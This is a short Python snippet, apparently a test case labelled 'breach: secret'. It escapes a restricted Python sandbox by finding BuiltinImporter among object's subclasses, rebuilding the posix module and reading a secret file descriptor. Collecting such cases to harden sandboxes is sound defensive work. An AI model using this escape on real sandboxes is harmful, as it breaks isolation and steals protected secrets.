# The importer of built-in modules among object's subclasses makes posix again.
# breach: secret
def make(importer):
    if hasattr(importer, "load_module"):  # up to 3.14
        return importer.load_module("posix")
    posix = importer.create_module(importer.find_spec("posix"))
    importer.exec_module(posix)
    return posix
[make(c).pread(SECRET_FD, 100, 0) for c in object.__subclasses__()
 if c.__name__ == "BuiltinImporter"]
